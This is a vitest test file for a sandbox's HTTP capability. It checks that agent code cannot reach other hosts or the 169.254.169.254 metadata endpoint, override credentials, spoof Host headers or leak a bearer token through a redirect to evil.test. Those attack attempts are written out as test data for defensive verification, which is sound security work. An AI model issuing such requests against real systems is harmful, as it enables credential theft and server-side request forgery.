// The http capability as an agent sees it: refusals from inside a real isolate carry the right
// code, and the host-attached secret appears nowhere — not in results, errors, the outcome, or the
// host log.
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { Writable } from 'node:stream';
import pino from 'pino';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createHttp } from '../../capabilities/http/index.js';
import { createSandbox, type Sandbox } from '../../runtime/index.js';

const SECRET = 'Bearer sk-sandbox-7f3a9c1e5b2d';
const TOKEN = 'sk-sandbox-7f3a9c1e5b2d';
const seenAuth: string[] = [];
let server: http.Server;
let port = 0;
let sb: Sandbox;
const logLines: string[] = [];

beforeAll(async () => {
  server = http.createServer((req, res) => {
    seenAuth.push(String(req.headers.authorization ?? ''));
    if (req.url === '/leak-redirect') {
      res.writeHead(302, { location: `http://evil.test/?t=${encodeURIComponent(String(req.headers.authorization))}` });
      res.end();
    } else if (req.url !== '/slow') {
      // (/slow never answers.)
      res.writeHead(200, { 'content-type': 'application/json', 'x-auth-echo': String(req.headers.authorization) });
      res.end(JSON.stringify({ youSent: req.headers.authorization }));
    }
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', () => resolve()));
  port = (server.address() as AddressInfo).port;
  const sink = new Writable({
    write(chunk: Buffer, _enc, cb) {
      logLines.push(chunk.toString());
      cb();
    },
  });
  sb = createSandbox({ isolation: 'in-process', logger: pino({ level: 'debug' }, sink) });
});

afterAll(async () => {
  await sb.close();
  server.closeAllConnections();
  await new Promise<void>((resolve) => server.close(() => resolve()));
});

const AGENT = `
export default async function main(input, caps) {
  const out = {};
  const attempt = async (name, f) => {
    try { out[name] = { ok: true, value: await f() }; }
    catch (e) { out[name] = { ok: false, code: e.code, message: e.message, text: String(e) + ' ' + (e.stack || '') }; }
  };
  await attempt('allowed', () => caps.http.get({ url: input.base + '/echo' }));
  await attempt('otherHost', () => caps.http.get({ url: 'http://evil.test/' }));
  await attempt('otherPort', () => caps.http.get({ url: 'http://127.0.0.1:1/' }));
  await attempt('metadata', () => caps.http.get({ url: 'http://169.254.169.254/latest/meta-data/' }));
  await attempt('override', () => caps.http.get({ url: input.base + '/echo', headers: { Authorization: 'Bearer agent' } }));
  await attempt('hostHeader', () => caps.http.get({ url: input.base + '/echo', headers: { Host: 'evil.test' } }));
  await attempt('leakRedirect', () => caps.http.get({ url: input.base + '/leak-redirect' }));
  await attempt('timeout', () => caps.http.get({ url: input.base + '/slow' }));
  return out;
}`;

describe('http from inside a sandbox', () => {
  it('refusals carry stable codes and the secret never reaches the agent or the log', async () => {
    const base = `http://127.0.0.1:${port}`;
    const instance = createHttp(
      {
        origins: [base, 'http://169.254.169.254'],
        allowedCidrs: ['127.0.0.1/32'],
        credentials: [{ origin: base, header: 'authorization', secret: 'svc-token' }],
        timeoutMs: 500,
      },
      { secrets: { get: (name) => (name === 'svc-token' ? SECRET : undefined) } },
    );
    const outcome = await sb.run({ source: AGENT, input: { base }, capabilities: [instance] });
    if (outcome.status !== 'ok') expect.fail(`${outcome.error.code}: ${outcome.error.message}`);
    const r = outcome.value as Record<string, { ok: boolean; code?: string; value?: any; message?: string }>;

    // The credential arrived at the server; the agent's copy of the response is redacted.
    expect(r.allowed?.ok).toBe(true);
    expect(seenAuth).toContain(SECRET);
    expect(JSON.parse(r.allowed?.value.body).youSent).toBe('[REDACTED]');
    expect(r.allowed?.value.headers['x-auth-echo']).toBe('[REDACTED]');

    // Scope refusals are gate denials to the agent; bad arguments are INVALID_ARGUMENT.
    expect(r.otherHost).toMatchObject({ ok: false, code: 'CAPABILITY_DENIED' });
    expect(r.otherPort).toMatchObject({ ok: false, code: 'CAPABILITY_DENIED' });
    expect(r.override).toMatchObject({ ok: false, code: 'CAPABILITY_DENIED' });
    expect(r.hostHeader).toMatchObject({ ok: false, code: 'INVALID_ARGUMENT' });
    // Refused after resolution (link-local metadata address) and on a redirect hop.
    expect(r.metadata).toMatchObject({ ok: false, code: 'CAPABILITY_DENIED' });
    expect(r.metadata?.message).toMatch(/non-public/);
    expect(r.leakRedirect).toMatchObject({ ok: false, code: 'CAPABILITY_DENIED' });
    expect(r.timeout).toMatchObject({ ok: false, code: 'CAPABILITY_FAILED' });

    // The timeout carries a cause, so the host logged it: the log is part of what must stay clean.
    expect(logLines.join('\n')).toContain('capability call failed');
    const everything = JSON.stringify(outcome) + logLines.join('\n');
    expect(everything).not.toContain(TOKEN);
    expect(everything).not.toContain(encodeURIComponent(SECRET));
    // The agent's attempted override never left the host.
    expect(seenAuth.filter((a) => a === 'Bearer agent')).toEqual([]);
  });
});
